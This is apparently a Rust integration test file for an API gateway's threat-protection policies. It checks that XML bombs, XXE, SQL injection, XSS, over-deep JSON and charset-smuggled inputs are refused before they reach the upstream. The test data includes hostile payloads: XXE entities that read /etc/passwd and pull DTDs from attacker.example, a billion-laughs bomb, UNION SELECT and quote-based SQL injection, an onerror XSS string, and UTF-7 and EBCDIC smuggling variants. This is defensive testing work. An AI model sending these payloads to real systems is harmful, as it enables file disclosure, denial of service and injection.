//! The threat-protection policies through a real gateway: XML bombs and XXE never reach the
//! upstream, OpenAPI violations are answered with the listed violations, injection attempts are
//! blocked without echoing the payload, and monitor mode lets requests through while the access
//! log records what would have been blocked.

use bytes::Bytes;
use http::Method;
use portcullis_test_support::{Recorder, Reply, TestGateway, get, request};

const SPEC: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/orders-openapi.yaml"
);

fn config(up: &Recorder) -> String {
    format!(
        r#"
listeners: [ {{ name: public, address: "127.0.0.1:0" }} ]
apis:
  - name: soap
    base_path: /soap
    upstream: {{ targets: ["{u}"] }}
    policies: {{ request: [ {{ xml-threat-protection: {{}} }} ] }}
  - name: shop
    base_path: /shop/v1
    upstream: {{ targets: ["{u}"] }}
    policies:
      request:
        - openapi-validation: {{ spec: "{SPEC}", base_path: /shop/v1 }}
  - name: shop-watched
    base_path: /shop/v2
    upstream: {{ targets: ["{u}"] }}
    policies:
      request:
        - openapi-validation: {{ spec: "{SPEC}", base_path: /shop/v2, validate_responses: true }}
  - name: comments
    base_path: /comments
    upstream: {{ targets: ["{u}"] }}
    policies:
      request:
        - injection-protection: {{}}
        - json-threat-protection: {{ max_depth: 4, check_all_bodies: true }}
  - name: forms
    base_path: /forms
    upstream: {{ targets: ["{u}"] }}
    policies: {{ request: [ {{ injection-protection: {{}} }} ] }}
  - name: watched
    base_path: /watched
    upstream: {{ targets: ["{u}"] }}
    policies:
      request:
        - injection-protection: {{ mode: monitor }}
        - json-threat-protection: {{ mode: monitor }}
"#,
        u = up.url()
    )
}

async fn post(gw: &TestGateway, path: &str, content_type: &str, body: &str) -> Reply {
    request(
        Method::POST,
        &gw.url(path),
        &[("content-type", content_type)],
        Bytes::copy_from_slice(body.as_bytes()),
    )
    .await
}

fn problem(r: &Reply) -> (u16, String) {
    let code = r.json()["code"].as_str().unwrap_or_default().to_owned();
    (r.status.as_u16(), code)
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;
const EXTERNAL_ENTITY: &str =
    r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
const EXTERNAL_DTD: &str =
    r#"<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"#;
const PARAMETER_ENTITY: &str = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>"#;

fn quadratic_blowup() -> String {
    let big = "a".repeat(50_000);
    let refs = "&a;".repeat(10_000);
    format!(r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{big}">]><r>{refs}</r>"#)
}

#[tokio::test]
async fn xml_bombs_and_xxe_never_reach_the_upstream() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    let quadratic = quadratic_blowup();
    let attacks: [(&str, &str, &str); 6] = [
        ("billion laughs", "application/xml", BILLION_LAUGHS),
        ("quadratic blow-up", "text/xml", &quadratic),
        ("external entity", "application/soap+xml", EXTERNAL_ENTITY),
        ("external DTD", "application/xml", EXTERNAL_DTD),
        ("parameter entities", "application/xml", PARAMETER_ENTITY),
        // No Content-Type is not a way around the check.
        ("unlabelled XXE", "", EXTERNAL_ENTITY),
    ];
    for (name, content_type, body) in attacks {
        let headers: Vec<_> = [("content-type", content_type)]
            .into_iter()
            .filter(|(_, v)| !v.is_empty())
            .collect();
        let r = request(
            Method::POST,
            &gw.url("/soap/order"),
            &headers,
            Bytes::copy_from_slice(body.as_bytes()),
        )
        .await;
        assert_eq!(r.header("content-type"), Some("application/problem+json"));
        assert_eq!(
            problem(&r),
            (400, "xml.doctype_forbidden".to_owned()),
            "{name}"
        );
    }
    assert_eq!(up.count(), 0, "the upstream saw an attack");
    let r = post(
        &gw,
        "/soap/order",
        "application/xml",
        "<order id='1'><qty>2</qty></order>",
    )
    .await;
    assert_eq!(r.status, 200);
    assert_eq!(up.count(), 1);
    gw.stop().await;
}

#[tokio::test]
async fn openapi_contract_is_enforced() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    let violations = |r: &Reply| -> Vec<String> {
        r.json()["violations"]
            .as_array()
            .expect("violations listed")
            .iter()
            .map(|v| {
                format!(
                    "{} {}",
                    v["code"].as_str().unwrap_or(""),
                    v["location"].as_str().unwrap_or("")
                )
            })
            .collect()
    };

    let r = get(&gw.url("/shop/v1/orders/42"), &[]).await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(r.json()["uri"], "/orders/42");
    let r = request(
        Method::POST,
        &gw.url("/shop/v1/orders"),
        &[("content-type", "application/json"), ("x-tenant", "acme")],
        r#"{"sku":"book","qty":1}"#,
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    let passed = up.count();

    let r = get(&gw.url("/shop/v1/orders/abc"), &[]).await;
    assert_eq!(problem(&r), (400, "openapi.parameter_invalid".into()));
    assert_eq!(violations(&r), ["openapi.parameter_invalid path.id"]);

    let r = get(&gw.url("/shop/v1/orders?limit=1000&status=lost"), &[]).await;
    let v = violations(&r);
    assert_eq!(r.status, 400);
    assert!(
        v.contains(&"openapi.parameter_invalid query.limit".to_owned()),
        "{v:?}"
    );
    assert!(
        v.contains(&"openapi.parameter_invalid query.status".to_owned()),
        "{v:?}"
    );

    let r = request(
        Method::POST,
        &gw.url("/shop/v1/orders"),
        &[("content-type", "application/json")],
        r#"{"sku":"book","qty":"one","admin":true}"#,
    )
    .await;
    let v = violations(&r);
    assert_eq!(r.status, 400);
    assert!(
        v.contains(&"openapi.parameter_missing header.x-tenant".to_owned()),
        "{v:?}"
    );
    assert!(
        v.iter().any(|c| c.starts_with("openapi.body_invalid body")),
        "{v:?}"
    );

    let r = request(
        Method::POST,
        &gw.url("/shop/v1/orders"),
        &[("content-type", "text/plain"), ("x-tenant", "acme")],
        r#"{"sku":"book","qty":1}"#,
    )
    .await;
    assert_eq!(
        problem(&r),
        (400, "openapi.content_type_not_allowed".into())
    );
    let r = request(
        Method::POST,
        &gw.url("/shop/v1/orders"),
        &[("x-tenant", "acme")],
        "",
    )
    .await;
    assert_eq!(problem(&r), (400, "openapi.body_required".into()));

    let r = get(&gw.url("/shop/v1/debug/env"), &[]).await;
    assert_eq!(problem(&r), (404, "openapi.path_not_found".into()));
    assert_eq!(violations(&r), ["openapi.path_not_found path"]);
    let r = request(Method::PATCH, &gw.url("/shop/v1/orders/42"), &[], "").await;
    assert_eq!(problem(&r), (405, "openapi.method_not_allowed".into()));
    assert!(
        r.header("allow").is_some_and(|a| a.contains("DELETE")),
        "{:?}",
        r.headers
    );

    assert_eq!(up.count(), passed, "a refused request reached the upstream");
    gw.stop().await;
}

#[tokio::test]
async fn injection_is_blocked_anywhere_without_echoing_the_payload() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    let r = get(
        &gw.url("/comments?q=1%27%20UNION%20SELECT%20secret_column%20FROM%20users--"),
        &[],
    )
    .await;
    assert_eq!(problem(&r), (400, "injection.detected".into()));
    let detail = r.json()["detail"].as_str().unwrap_or_default().to_owned();
    assert!(detail.contains("query.q"), "{detail}");
    assert!(
        !detail.contains("secret_column"),
        "payload echoed: {detail}"
    );
    assert_eq!(r.json()["class"], "sqli");

    // A JSON body sent as text/plain is still inspected, by both policies.
    let r = post(
        &gw,
        "/comments",
        "application/json",
        r#"{"c":"<img src=x onerror=alert(1)>"}"#,
    )
    .await;
    assert_eq!(problem(&r), (400, "injection.detected".into()));
    let r = post(&gw, "/comments", "text/plain", r#"[[[[["deep"]]]]]"#).await;
    assert_eq!(problem(&r), (400, "json.depth_exceeded".into()));
    assert_eq!(r.json()["location"], "$[0][0][0][0]");
    assert_eq!(up.count(), 0);

    let r = post(
        &gw,
        "/comments",
        "application/json",
        r#"{"c":"Select the best option, or drop me a line"}"#,
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    gw.stop().await;
}

#[tokio::test]
async fn monitor_mode_passes_and_the_access_log_records_the_events() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    let r = post(
        &gw,
        "/watched/c?id=1%27%20OR%20%271%27=%271",
        "application/json",
        "{]",
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(up.count(), 1);
    let lines = gw.wait_for_log_lines(1).await;
    let events: Vec<&str> = lines[0]["events"]
        .as_array()
        .expect("events logged")
        .iter()
        .filter_map(|e| e.as_str())
        .collect();
    assert!(events.contains(&"injection.sqli"), "{events:?}");
    assert!(events.contains(&"injection.detected"), "{events:?}");
    assert!(events.contains(&"json.invalid"), "{events:?}");
    gw.stop().await;
}

#[tokio::test]
async fn undeclared_response_statuses_are_recorded_not_blocked() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    // DELETE declares only 204; the recorder answers 200.
    let r = request(Method::DELETE, &gw.url("/shop/v2/orders/42"), &[], "").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["upstream"], "up");
    let lines = gw.wait_for_log_lines(1).await;
    assert_eq!(
        lines[0]["events"],
        serde_json::json!(["openapi.response_status_undeclared"])
    );
    gw.stop().await;
}

fn gzip(body: &str) -> Bytes {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(body.as_bytes()).expect("compress");
    e.finish().expect("compress").into()
}

async fn post_coded(gw: &TestGateway, path: &str, coding: &str, body: Bytes) -> Reply {
    let headers = [
        ("content-type", "application/json"),
        ("content-encoding", coding),
        ("x-tenant", "acme"),
    ];
    request(Method::POST, &gw.url(path), &headers, body).await
}

#[tokio::test]
async fn compressed_bodies_are_judged_decoded_and_forwarded_as_sent() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    // Compressed, an attack or a violation shows nothing a pattern or a schema could see.
    let xss = gzip(r#"{"c":"<img src=x onerror=alert(1)>"}"#);
    let r = post_coded(&gw, "/comments", "gzip", xss).await;
    assert_eq!(problem(&r), (400, "injection.detected".into()));
    let r = post_coded(&gw, "/comments", "x-gzip", gzip(r#"[[[[["deep"]]]]]"#)).await;
    assert_eq!(problem(&r), (400, "json.depth_exceeded".into()));
    let r = post_coded(
        &gw,
        "/shop/v1/orders",
        "gzip",
        gzip(r#"{"sku":"book","qty":"one"}"#),
    );
    assert_eq!(problem(&r.await), (400, "openapi.body_invalid".into()));
    // A coding nobody here can undo is refused, saying which ones would do.
    let r = post_coded(&gw, "/comments", "br", gzip(r#"{"c":"hello"}"#)).await;
    assert_eq!(
        problem(&r),
        (415, "request.content_encoding_unsupported".into())
    );
    assert_eq!(r.header("accept-encoding"), Some("gzip, deflate"));
    // Not a gzip stream at all.
    let r = post_coded(&gw, "/comments", "gzip", Bytes::from_static(b"{\"c\":1}")).await;
    assert_eq!(problem(&r), (400, "request.invalid".into()));
    assert_eq!(up.count(), 0);

    // What passes goes upstream exactly as sent: still compressed, still labelled.
    let ok = gzip(r#"{"sku":"book","qty":1}"#);
    let r = post_coded(&gw, "/shop/v1/orders", "gzip", ok.clone()).await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    let seen = up.requests().pop().expect("forwarded");
    assert_eq!(seen.body, ok);
    assert_eq!(seen.headers["content-encoding"], "gzip");

    // In monitor mode the policies record the body they could not read and let it through.
    let r = post_coded(
        &gw,
        "/watched",
        "br",
        Bytes::from_static(b"\x0b\x02\x80{}\x03"),
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    let lines = gw.wait_for_log_lines(7).await;
    let events = &lines.last().expect("logged")["events"];
    assert!(
        events
            .as_array()
            .expect("events logged")
            .contains(&"request.content_encoding_unsupported".into()),
        "{events}"
    );
    gw.stop().await;
}

#[tokio::test]
async fn bodies_in_charsets_the_checks_cannot_read_are_refused() {
    let up = Recorder::start("up").await;
    let gw = TestGateway::start(&config(&up)).await;
    // `' or '1'='1` in IBM037 (EBCDIC), as ASP.NET decodes a form body declared so.
    let ebcdic = "q=%7D%40%96%99%40%7D%F1%7D%7E%7D%F1";
    let form = "application/x-www-form-urlencoded; charset=ibm037";
    let r = post(&gw, "/forms", form, ebcdic).await;
    assert_eq!(problem(&r), (415, "request.charset_unsupported".into()));
    // RFC 7303: the charset parameter, not the declaration, decides how XML is read.
    let r = post(
        &gw,
        "/soap/o",
        "text/xml; charset=utf-7",
        "<a>+ADw-x+AD4-</a>",
    )
    .await;
    assert_eq!(problem(&r), (415, "request.charset_unsupported".into()));
    // Express's body-parser decodes UTF-7 JSON: there this has an `admin` member.
    let json7 = r#"{"sku":"book","qty":1,"note":"x+ACI-,+ACI-admin+ACI-:true,+ACI-y+ACI-:+ACI-"}"#;
    for path in ["/comments", "/shop/v1/orders"] {
        let r = post(&gw, path, "application/json; charset=utf-7", json7).await;
        assert_eq!(
            problem(&r),
            (415, "request.charset_unsupported".into()),
            "{path}"
        );
    }
    assert_eq!(up.count(), 0);
    let r = post(
        &gw,
        "/comments",
        "application/json; charset=UTF-8",
        r#"{"c":"O'Brien"}"#,
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    let r = post(
        &gw,
        "/soap/o",
        "text/xml; charset=iso-8859-1",
        "<a>caf\u{e9}</a>",
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    gw.stop().await;
}
